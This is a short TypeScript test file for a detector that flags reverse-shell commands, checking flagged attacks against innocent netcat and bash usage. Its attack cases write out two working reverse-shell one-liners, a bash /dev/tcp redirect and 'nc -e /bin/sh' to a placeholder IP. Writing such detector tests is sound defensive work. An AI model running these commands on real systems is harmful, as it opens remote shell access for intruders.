import { expect, test } from 'vitest'
import { commandOf, hits } from '../testing.ts'
import detector from './command-reverse-shell.ts'

const titles = (command: string) => hits(detector, commandOf(command)).map(({ title }) => title)

test.each([
  ['bash', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'shell'],
  ['nc', 'nc -e /bin/sh 203.0.113.9 4444', 'shell'],
])('attack: %s', (_, command, signal) => {
  expect(titles(command)).toContain(detector.signals[signal]?.title)
})

test.each([['nc -zv a.invalid 443'], ['nc -l 8080'], ['bash -i'], ['exec 3<>/dev/tcp/a.invalid/80']])(
  'innocent: %s',
  (command) => {
    expect(titles(command)).toEqual([])
  },
)
